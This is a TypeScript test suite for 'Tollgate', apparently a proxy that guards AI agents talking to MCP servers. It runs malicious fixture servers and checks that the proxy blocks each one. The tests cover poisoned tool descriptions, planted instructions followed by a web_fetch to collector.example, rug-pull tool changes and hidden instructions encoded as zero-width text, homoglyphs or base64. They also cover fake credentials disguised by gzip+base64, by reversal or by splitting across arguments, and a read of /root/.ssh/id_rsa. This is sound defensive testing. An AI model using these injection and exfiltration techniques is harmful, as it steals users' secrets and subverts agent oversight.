import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcessWithoutNullStreams } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { verifyReceiptsFile } from '../src/evidence/receipts/index.ts';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, it } from 'node:test';
import { CompleteResultSchema, CreateMessageRequestSchema, ElicitRequestSchema, EmptyResultSchema, GetTaskResultSchema, ListRootsRequestSchema, LoggingMessageNotificationSchema } from '@modelcontextprotocol/sdk/types.js';
import { serverPinId } from '../src/state/pins/index.ts';
import { stdioServerIdentity } from '../src/transports/mcp/index.ts';
import { BIN, ROOT, refused, spawnClient, text, until, type Connected, type SpawnOptions } from './helpers/mcp.ts';

/**
 * End to end over real stdio: a real MCP SDK client spawns `node bin/tollgate.js mcp -- SERVER`,
 * with real servers from npm and small malicious ones from test/fixtures/mcp.
 * Every server gets a fresh TOLLGATE_HOME, so pins start empty.
 */
const FIXTURES = join(ROOT, 'test/fixtures/mcp');
const EVERYTHING = join(ROOT, 'node_modules/.bin/mcp-server-everything');
const FILESYSTEM = join(ROOT, 'node_modules/.bin/mcp-server-filesystem');
const T = { timeout: 90_000 };

function home(): string {
  return mkdtempSync(join(tmpdir(), 'tollgate-home-'));
}

/** An SDK client talking to SERVER through Tollgate (`tollgate mcp [tollgateArgs] -- SERVER`). */
function connect(server: string[], opts: SpawnOptions & { tollgateArgs?: string[] }): Promise<Connected> {
  return spawnClient([...(opts.tollgateArgs ?? []), '--', ...server], opts);
}

/** Runs fn with a connected client and always closes it (so a failed assertion never leaves processes behind). */
async function withClient(server: string[], opts: Parameters<typeof connect>[1], fn: (c: Connected) => Promise<void>): Promise<Connected> {
  const c = await connect(server, opts);
  try {
    await fn(c);
  } finally {
    await c.client.close();
  }
  assert.deepEqual(c.errors.map((e) => e.message), [], 'the client saw no protocol errors');
  return c;
}

/** A raw line-level peer, for what the SDK client hides (exit codes, exact lines). */
class RawClient {
  readonly proc: ChildProcessWithoutNullStreams;
  readonly messages: Record<string, unknown>[] = [];
  stderr = '';
  readonly exited: Promise<{ code: number | null; signal: NodeJS.Signals | null }>;
  #buf = '';

  constructor(server: string[], home: string) {
    this.proc = spawn(process.execPath, [BIN, 'mcp', '--', ...server], { env: { ...process.env, TOLLGATE_HOME: home } });
    this.proc.stdout.on('data', (d: Buffer) => {
      this.#buf += d.toString('utf8');
      let nl: number;
      while ((nl = this.#buf.indexOf('\n')) >= 0) {
        this.messages.push(JSON.parse(this.#buf.slice(0, nl)) as Record<string, unknown>);
        this.#buf = this.#buf.slice(nl + 1);
      }
    });
    this.proc.stderr.on('data', (d: Buffer) => (this.stderr += d.toString('utf8')));
    this.exited = new Promise((r) => this.proc.once('exit', (code, signal) => r({ code, signal })));
  }

  /** Kills Tollgate if it is still running (the server then sees its stdin close). */
  stop(): void {
    if (this.proc.exitCode === null && this.proc.signalCode === null) this.proc.kill('SIGKILL');
  }

  send(m: unknown): void {
    this.proc.stdin.write(typeof m === 'string' ? `${m}\n` : `${JSON.stringify(m)}\n`);
  }

  async reply(id: unknown): Promise<Record<string, unknown>> {
    // The first reply waits for Tollgate to start, which takes seconds through tsx on a loaded machine.
    await until(() => this.messages.some((m) => m.id === id), `a reply to ${String(id)}`, 60_000);
    return this.messages.find((m) => m.id === id) as Record<string, unknown>;
  }

  async handshake(): Promise<void> {
    this.send({ jsonrpc: '2.0', id: 0, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '1' } } });
    await this.reply(0);
    this.send({ jsonrpc: '2.0', method: 'notifications/initialized' });
    this.send({ jsonrpc: '2.0', id: 1, method: 'tools/list' });
    await this.reply(1);
  }
}

describe('tollgate mcp with real MCP servers from npm', { concurrency: 2 }, () => {
  it('server-everything: initialize, tools, resources, prompts all work through Tollgate, and the server sees only the allowed environment', T, async () => {
    const opts = { home: home(), tollgateArgs: ['--env', 'PLAIN_SETTING'], env: { PLAIN_SETTING: 'passed-on-purpose', UNPASSED_SERVICE_KEY: 'kept-by-tollgate-7x' } };
    const c = await withClient([EVERYTHING], opts, async ({ client }) => {
      assert.equal(client.getServerVersion()?.name, 'mcp-servers/everything');
      const tools = (await client.listTools()).tools.map((t) => t.name);
      for (const t of ['echo', 'get-sum', 'get-env', 'get-tiny-image']) assert.ok(tools.includes(t), t);
      assert.equal(text(await client.callTool({ name: 'echo', arguments: { message: 'hello through tollgate' } })), 'Echo: hello through tollgate');
      assert.equal(text(await client.callTool({ name: 'get-sum', arguments: { a: 2, b: 3 } })), 'The sum of 2 and 3 is 5.');
      const image = await client.callTool({ name: 'get-tiny-image', arguments: {} });
      assert.ok((image.content as { type: string }[]).some((x) => x.type === 'image'));
      const env = JSON.parse(text(await client.callTool({ name: 'get-env', arguments: {} }))) as Record<string, string>;
      assert.equal(env.PLAIN_SETTING, 'passed-on-purpose');
      assert.equal(env.UNPASSED_SERVICE_KEY, undefined);
      assert.equal(env.TOLLGATE_HOME, undefined);
      const resources = (await client.listResources()).resources;
      const arch = resources.find((r) => r.name === 'architecture.md');
      assert.ok(arch);
      const read = await client.readResource({ uri: arch.uri });
      assert.match((read.contents[0] as { text: string }).text, /^# Everything Server/);
      const prompts = (await client.listPrompts()).prompts.map((p) => p.name);
      assert.ok(prompts.includes('args-prompt'));
      const prompt = await client.getPrompt({ name: 'args-prompt', arguments: { city: 'Paris' } });
      assert.match(JSON.stringify(prompt.messages), /Paris/);
    });
    assert.doesNotMatch(c.stderr(), /\[tollgate\] block/);
    assert.match(c.stderr(), /\[tollgate\] mcp: guarding mcp-server-everything/);
  });

  it('server-filesystem: reads, lists and writes in a temp dir; a write carrying a value passed with --env is refused', T, async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tollgate-fs-'));
    writeFileSync(join(dir, 'hello.txt'), 'hello from a temp dir\n');
    const signingKey = 'Zq8pw4471xSigningValue42';
    await withClient([FILESYSTEM, dir], { home: home(), tollgateArgs: ['--env', 'DEMO_SIGNING_KEY'], env: { DEMO_SIGNING_KEY: signingKey } }, async ({ client }) => {
      const tools = (await client.listTools()).tools.map((t) => t.name);
      assert.ok(tools.includes('read_text_file') && tools.includes('write_file'));
      assert.equal(text(await client.callTool({ name: 'read_text_file', arguments: { path: join(dir, 'hello.txt') } })), 'hello from a temp dir\n');
      assert.match(text(await client.callTool({ name: 'list_directory', arguments: { path: dir } })), /\[FILE\] hello\.txt/);
      await client.callTool({ name: 'write_file', arguments: { path: join(dir, 'note.txt'), content: 'a plain note' } });
      assert.equal(readFileSync(join(dir, 'note.txt'), 'utf8'), 'a plain note');
      const e = await refused(client.callTool({ name: 'write_file', arguments: { path: join(dir, 'leak.txt'), content: `key: ${signingKey}` } }));
      assert.equal(e.code, -32001);
      assert.match(e.message, /known-secrets\/value-match/);
      assert.equal(existsSync(join(dir, 'leak.txt')), false, 'the refused call never reached the server');
    });
  });
});

describe('tollgate mcp against malicious servers', { concurrency: 2 }, () => {
  it('removes a tool with a poisoned description and refuses calls to it; the clean tool still works; the decisions land in a receipts chain that verifies', T, async () => {
    const h = home();
    const c = await withClient(['node', join(FIXTURES, 'poisoned-server.mjs')], { home: h }, async ({ client }) => {
      assert.deepEqual((await client.listTools()).tools.map((t) => t.name), ['echo']);
      const e = await refused(client.callTool({ name: 'add', arguments: { a: 1, b: 2, sidenote: 'x' } }));
      assert.equal(e.code, -32001);
      assert.match(e.message, /Tollgate blocked tools\/call add \(mcp\/tool-withheld\)/);
      assert.equal(text(await client.callTool({ name: 'echo', arguments: { message: 'ok' } })), 'Echo: ok');
    });
    assert.match(c.stderr(), /fixture poisoned got tools\/call echo/);
    assert.doesNotMatch(c.stderr(), /fixture poisoned got tools\/call add/);
    assert.match(c.stderr(), /\[tollgate\] redact tool-list tools\/list mcp-server:node \[.*injection\//);
    // The process closes its chain (a close checkpoint) as it exits; wait for that, bounded by time
    // (30 s: a loaded machine can take seconds to get there), not by a count of polls.
    const dir = join(h, 'mcp');
    let result = null as Awaited<ReturnType<typeof verifyReceiptsFile>> | null;
    for (const end = Date.now() + 30_000; result?.status !== 'ok' && Date.now() < end; ) {
      const file = existsSync(dir) ? readdirSync(dir).find((f) => f.endsWith('.receipts.jsonl')) : undefined;
      if (file) result = await verifyReceiptsFile(join(dir, file));
      if (result?.status !== 'ok') await new Promise((r) => setTimeout(r, 100));
    }
    assert.equal(result?.status, 'ok', JSON.stringify(result?.broken ?? result?.warnings ?? 'no receipts file'));
    assert.ok((result?.counts.decision ?? 0) >= 3, 'list, blocked call and allowed call are all recorded');
    const audit = readFileSync(join(h, 'audit.jsonl'), 'utf8');
    assert.match(audit, /"transport":"mcp-stdio"/);
  });

  it('a call that sends data out after a tool result with instruction-like text completes a chain: warned at balanced, refused at strict', T, async () => {
    const server = ['node', join(FIXTURES, 'planted-order-server.mjs')];
    const balanced = await withClient(server, { home: home() }, async ({ client }) => {
      await client.listTools();
      assert.match(text(await client.callTool({ name: 'read_email', arguments: {} })), /Shipping FAQ/);
      assert.equal(text(await client.callTool({ name: 'web_fetch', arguments: { url: 'https://collector.example/?d=1' } })), 'fetched https://collector.example/?d=1');
    });
    assert.match(balanced.stderr(), /\[tollgate\] warn tool-call tools\/call tool:web_fetch \[[^\]]*tool-policy\/chain-injection-then-send/);
    const h = home();
    const config = join(h, 'strict.yaml');
    writeFileSync(config, 'preset: strict\n');
    await withClient(server, { home: h, tollgateArgs: ['--config', config] }, async ({ client }) => {
      await client.listTools();
      // at strict the result itself may be held back (a low injection score is a warning there too)
      await client.callTool({ name: 'read_email', arguments: {} }).catch(() => undefined);
      const e = await refused(client.callTool({ name: 'web_fetch', arguments: { url: 'https://collector.example/?d=1' } }));
      assert.equal(e.code, -32001);
      assert.match(e.message, /chain-injection-then-send/);
    });
  });

  it('blocks a tool that changed after it was pinned until `tollgate mcp pins approve`, and the approval survives a restart', T, async () => {
    const h = home();
    const state = join(mkdtempSync(join(tmpdir(), 'tollgate-rug-')), 'lists');
    const server = ['node', join(FIXTURES, 'rug-pull-server.mjs'), state];
    const id = serverPinId(stdioServerIdentity('node', server.slice(1)));
    const cli = (...args: string[]) => spawnSync(process.execPath, [BIN, 'mcp', 'pins', ...args], { encoding: 'utf8', env: { ...process.env, TOLLGATE_HOME: h } });

    await withClient(server, { home: h }, async ({ client }) => {
      assert.deepEqual((await client.listTools()).tools.map((t) => t.name), ['weather', 'time']);
      assert.deepEqual((await client.listTools()).tools.map((t) => t.name), ['time'], 'the changed tool is withheld');
      const e = await refused(client.callTool({ name: 'weather', arguments: { city: 'Paris' } }));
      assert.equal(e.code, -32001);
      assert.ok(e.message.includes(`tollgate mcp pins approve --server ${id} weather`), e.message);

      const diff = cli('diff', '--server', id.slice(0, 8));
      assert.equal(diff.status, 0, diff.stderr);
      assert.match(diff.stdout, /^tool weather$/m);
      assert.match(diff.stdout, /^\+  Also takes an optional unit: celsius or fahrenheit\.$/m);
      assert.match(diff.stdout, /^\+ {6}"unit": \{$/m);
      const approve = cli('approve', '--server', id, 'weather');
      assert.equal(approve.status, 0, approve.stderr);
      assert.equal(approve.stdout, `approved weather (server ${id})\n`);

      assert.deepEqual((await client.listTools()).tools.map((t) => t.name), ['weather', 'time'], 'approved: the running session takes it at the next list');
      assert.equal(text(await client.callTool({ name: 'weather', arguments: { city: 'Paris' } })), 'Sunny in Paris');
    });
    await withClient(server, { home: h }, async ({ client }) => {
      assert.deepEqual((await client.listTools()).tools.map((t) => t.name), ['weather', 'time'], 'the approval was persisted');
    });
    const list = cli('list');
    assert.match(list.stdout, new RegExp(`^${id}  stdio:`, 'm'));
    assert.match(list.stdout, /^ {2}weather {2}sha256:[0-9a-f]{16}… {2}pinned \S+ {2}\(approved /m);
  });

  it('replaces tool results with hidden instructions (zero-width, homoglyphs, base64, structured, embedded, linked) and refuses such resources, prompts, completions, task statuses and sampling requests', T, async () => {
    const sampled: string[] = [];
    await withClient(['node', join(FIXTURES, 'hidden-result-server.mjs')], { home: home(), capabilities: { sampling: {} } }, async (c) => {
      const { client } = c;
      client.setRequestHandler(CreateMessageRequestSchema, (req) => {
        sampled.push(JSON.stringify(req.params.messages));
        return { role: 'assistant', content: { type: 'text', text: 'hello' }, model: 'test' };
      });
      await client.listTools();
      assert.equal(text(await client.callTool({ name: 'clean', arguments: {} })), 'Sunny, 21 degrees.');
      for (const name of ['zero-width', 'homoglyph', 'base64', 'structured', 'embedded', 'link']) {
        const r = await client.callTool({ name, arguments: {} });
        assert.equal(r.isError, true, name);
        assert.match(text(r), new RegExp(`^Tollgate blocked the tools/call result of ${name} \\([^)]*injection/`), name);
        assert.doesNotMatch(JSON.stringify(r), /id_rsa|collect\.example/, name);
      }
      assert.equal((await client.readResource({ uri: 'notes://clean' })).contents.length, 1);
      assert.equal((await refused(client.readResource({ uri: 'notes://evil' }))).code, -32001);
      assert.match(JSON.stringify((await client.getPrompt({ name: 'clean' })).messages), /Summarise the weather/);
      assert.equal((await refused(client.getPrompt({ name: 'evil' }))).code, -32001);
      const complete = (value: string) => client.request({ method: 'completion/complete', params: { ref: { type: 'ref/prompt', name: 'clean' }, argument: { name: 'city', value } } }, CompleteResultSchema);
      assert.deepEqual((await complete('clean')).completion.values, ['Paris', 'Pau']);
      assert.equal((await refused(complete('evil'))).code, -32001);
      const task = (taskId: string) => client.request({ method: 'tasks/get', params: { taskId } } as never, GetTaskResultSchema);
      assert.equal((await task('clean')).statusMessage, 'Indexing 40 of 120 files.');
      assert.equal((await refused(task('evil'))).code, -32001);
      await client.request({ method: 'test/ask-sampling', params: {} } as never, EmptyResultSchema);
      await until(() => c.stderr().includes('got response "srv-2" result'), 'the clean sampling request answered by the client');
      await until(() => c.stderr().includes('got response "srv-1" error -32001'), 'the poisoned sampling request refused by Tollgate');
    });
    assert.equal(sampled.length, 1);
    assert.match(sampled[0] ?? '', /Say hello/);
  });

  it('drops and records responses from the client that answer no request of the server; the answer to a relayed request goes through once', T, async () => {
    const h = home();
    const done = await withClient(['node', join(FIXTURES, 'hidden-result-server.mjs')], { home: h, capabilities: { sampling: {} } }, async (c) => {
      const { client } = c;
      client.setRequestHandler(CreateMessageRequestSchema, () => ({ role: 'assistant', content: { type: 'text', text: 'hello' }, model: 'test' }));
      const send = (m: Record<string, unknown>) => client.transport?.send({ jsonrpc: '2.0', ...m } as never);
      await client.listTools();
      await send({ id: 'srv-9', result: { injected: true } });
      await send({ id: 42, error: { code: -32000, message: 'forged' } });
      await send({ id: 'srv-2', result: { early: true } }); // the server has not asked yet
      await client.request({ method: 'test/ask-sampling', params: {} } as never, EmptyResultSchema);
      await until(() => c.stderr().includes('got response "srv-2" result'), 'the relayed sampling request answered by the client');
      await until(() => c.stderr().includes('got response "srv-1" error -32001'), 'the poisoned sampling request refused by Tollgate');
      await send({ id: 'srv-2', result: { again: true } }); // answered already
      await send({ id: 'srv-1', result: { never: 'shown' } }); // Tollgate refused it; the client never saw it
      await client.ping(); // the lines before it reached the server (or were dropped) first
    });
    const got = done.stderr().split('\n').filter((l) => l.includes('fixture hidden-result got response'));
    assert.deepEqual(got, ['fixture hidden-result got response "srv-1" error -32001', 'fixture hidden-result got response "srv-2" result'], 'the server got only Tollgate\'s refusal and the one real answer');
    const audit = readFileSync(join(h, 'audit.jsonl'), 'utf8');
    const unsolicited = audit.split('\n').filter((l) => l.includes('mcp/unsolicited-response'));
    assert.equal(unsolicited.length, 5, 'each unsolicited response is recorded');
    assert.ok(unsolicited.every((l) => l.includes('a message from the client')), unsolicited.join('\n'));
  });

  it('scans what the client sends besides tools/call: credentials in answers to server requests, prompts/get, completion/complete and resources/read never reach the server', T, async () => {
    const h = home();
    const AWS = 'AKIAZ7QW4ERT5YUI6OPA';
    const GH = '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';
    const KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACDkbAl3Wo6m4aD3JC0PBUUHfcOw+8cTVvh0D/8pRx7IXQAAAJiVZyYJlWcm\n-----END OPENSSH PRIVATE KEY-----';
    const done = await withClient(['node', join(FIXTURES, 'sink-server.mjs')], { home: h, capabilities: { sampling: {}, elicitation: {}, roots: {} } }, async (c) => {
      const { client } = c;
      client.setRequestHandler(CreateMessageRequestSchema, () => ({ role: 'assistant', content: { type: 'text', text: `Hello! Your key is ${AWS}.` }, model: 'test' }));
      client.setRequestHandler(ElicitRequestSchema, () => ({ action: 'accept', content: { name: GH } }));
      client.setRequestHandler(ListRootsRequestSchema, () => ({ roots: [{ uri: 'file:///home/dev/project', name: 'project' }] }));
      await client.listTools();
      await client.request({ method: 'test/ask-client', params: {} } as never, EmptyResultSchema);
      await until(() => c.stderr().includes('got response "srv-3" result'), 'the clean roots answer relayed');
      await until(() => c.stderr().includes('got response "srv-1" error -32001'), 'the sampling answer with a key replaced by an error');
      await until(() => c.stderr().includes('got response "srv-2" error -32001'), 'the elicitation answer with a token replaced by an error');
      assert.equal((await refused(client.getPrompt({ name: 'p', arguments: { text: `key ${AWS}` } }))).code, -32001);
      assert.equal((await refused(client.complete({ ref: { type: 'ref/prompt', name: 'p' }, argument: { name: 'a', value: KEY } }))).code, -32001);
      const read = await refused(client.readResource({ uri: 'file:///root/.ssh/id_rsa' }));
      assert.equal(read.code, -32001);
      assert.match(read.message, /tool-policy\/credential-path/);
      assert.match(JSON.stringify((await client.getPrompt({ name: 'p', arguments: { text: 'hello' } })).messages), /Prompt p/);
      assert.equal((await client.readResource({ uri: 'file:///home/dev/project/README.md' })).contents.length, 1);
      await client.ping(); // everything before it reached the server (or was refused) first
    });
    const received = done.stderr().split('\n').filter((l) => l.startsWith('fixture sink received '));
    assert.ok(received.some((l) => l.includes('"srv-3"') && l.includes('file:///home/dev/project')), 'the clean answer arrived');
    for (const secret of [AWS, GH, 'BEGIN OPENSSH', '.ssh/id_rsa']) assert.ok(!received.some((l) => l.includes(secret)), `${secret} never reached the server`);
    const audit = readFileSync(join(h, 'audit.jsonl'), 'utf8').split('\n').filter((l) => l.includes('"block"'));
    for (const method of ['sampling/createMessage', 'elicitation/create', 'prompts/get', 'completion/complete', 'resources/read']) {
      assert.ok(audit.some((l) => l.includes(`"method":"${method}"`)), `${method} block recorded`);
    }
  });

  it('refuses tools/call arguments hiding a credential by gzip+base64, by writing it backwards, or by splitting it across arguments; a gzip+base64 blob of prose goes through', T, async () => {
    const GH = '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';
    const ANT = 'sk-ant-api03-aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY2zA4bC6dE8fG0hJ2kL4mN6pQ8rS0tU2vW4xY6zA8bC0dE2fG4hJ6kL8mN0pQ2rS4tU6v-wXyZAA';
    const packed = gzipSync(`token: ${GH}`).toString('base64');
    const backwards = [...ANT].reverse().join('');
    const prose = gzipSync('Meeting notes: the release moves to Thursday.').toString('base64');
    const done = await withClient(['node', join(FIXTURES, 'sink-server.mjs')], { home: home() }, async ({ client }) => {
      await client.listTools();
      for (const [args, rule] of [
        [{ text: packed }, /dlp\/github-pat/],
        [{ text: backwards }, /dlp\/anthropic-api-key/],
        [{ text: GH.slice(0, 20), more: GH.slice(20) }, /split-secrets\/cross-parameter/],
      ] as const) {
        const e = await refused(client.callTool({ name: 'note', arguments: args }));
        assert.equal(e.code, -32001);
        assert.match(e.message, rule);
      }
      assert.equal(text(await client.callTool({ name: 'note', arguments: { text: prose } })), 'stored');
    });
    const received = done.stderr().split('\n').filter((l) => l.startsWith('fixture sink received '));
    assert.ok(received.some((l) => l.includes(prose)), 'the prose blob arrived');
    for (const secret of [packed, backwards, GH.slice(0, 20)]) assert.ok(!received.some((l) => l.includes(secret)), 'a refused call never reached the server');
  });

  it('drops malformed, unsolicited, non-UTF-8 and oversized lines from the server, records each, and the session goes on', T, async () => {
    const h = home();
    const config = join(h, 'tollgate.yaml');
    writeFileSync(config, 'mcp:\n  maxLineBytes: 65536\n');
    const logs: string[] = [];
    const c = await withClient(['node', join(FIXTURES, 'noisy-server.mjs'), '100000'], { home: h, tollgateArgs: ['--config', config] }, async ({ client }) => {
      client.setNotificationHandler(LoggingMessageNotificationSchema, (n) => {
        logs.push(String(n.params.data));
      });
      await client.listTools();
      assert.equal(text(await client.callTool({ name: 'noise', arguments: {} })), 'the real answer');
      const broken = await refused(client.request({ method: 'test/broken-response', params: {} } as never, EmptyResultSchema));
      assert.equal(broken.code, -32603);
      assert.match(broken.message, /Tollgate dropped the MCP server's response to test\/broken-response: a response carries both result and error/);
      assert.equal(text(await client.callTool({ name: 'noise', arguments: {} })), 'the real answer', 'the session goes on');
      await until(() => logs.length >= 2, 'the valid notifications after the noise');
    });
    assert.deepEqual(logs, ['still here', 'still here']);
    for (const rule of ['mcp/invalid-json', 'mcp/invalid-jsonrpc', 'mcp/unsolicited-response', 'mcp/invalid-utf8', 'mcp/line-too-long']) {
      assert.match(c.stderr(), new RegExp(`\\[tollgate\\] block mcp-message (\\S+ )?mcp-server:node \\[${rule}\\]`), rule);
    }
  });

  it("answers the pending call with an error when the server exits mid-call, and exits with the server's code", T, async () => {
    const raw = new RawClient(['node', join(FIXTURES, 'crash-server.mjs')], home());
    try {
      await raw.handshake();
      raw.send('{"jsonrpc":"2.0","id":7,"method":5}');
      assert.equal(((await raw.reply(7)).error as { code: number }).code, -32600, 'an invalid client request with a readable id is answered');
      raw.send({ jsonrpc: '2.0', id: 8, method: 'tools/call', params: { name: 'exit', arguments: { code: 3 } } });
      const r = await raw.reply(8);
      assert.deepEqual(r.error, { code: -32000, message: 'The MCP server exited with code 3 before answering tools/call.' });
      assert.deepEqual(await raw.exited, { code: 3, signal: null });
    } finally {
      raw.stop();
    }
  });

  it('exits 127 when the server cannot be started, and 1 when --env is given a value', T, () => {
    const run = (...args: string[]) => spawnSync(process.execPath, [BIN, 'mcp', ...args], { encoding: 'utf8', input: '', env: { ...process.env, TOLLGATE_HOME: home() } });
    const missing = run('--', '/nonexistent/mcp-server');
    assert.equal(missing.status, 127);
    assert.match(missing.stderr, /tollgate: cannot start MCP server "\/nonexistent\/mcp-server": spawn \/nonexistent\/mcp-server ENOENT/);
    const valued = run('--env', 'API_TOKEN=abc', '--', 'node');
    assert.equal(valued.status, 1);
    assert.match(valued.stderr, /--env takes a variable name \(got "API_TOKEN"=…\)/);
    assert.doesNotMatch(valued.stderr, /abc/);
  });

  it('dies of the same signal as the server, and forwards SIGTERM it receives to the server', T, async () => {
    const killed = new RawClient(['node', join(FIXTURES, 'crash-server.mjs')], home());
    const forwarded = new RawClient(['node', join(FIXTURES, 'crash-server.mjs')], home());
    try {
      await killed.handshake();
      killed.send({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'signal', arguments: { signal: 'SIGKILL' } } });
      assert.match(JSON.stringify(await killed.reply(2)), /was ended by SIGKILL before answering tools\/call/);
      assert.deepEqual(await killed.exited, { code: null, signal: 'SIGKILL' });

      await forwarded.handshake();
      forwarded.proc.kill('SIGTERM');
      assert.deepEqual(await forwarded.exited, { code: null, signal: 'SIGTERM' });
    } finally {
      killed.stop();
      forwarded.stop();
    }
  });
});
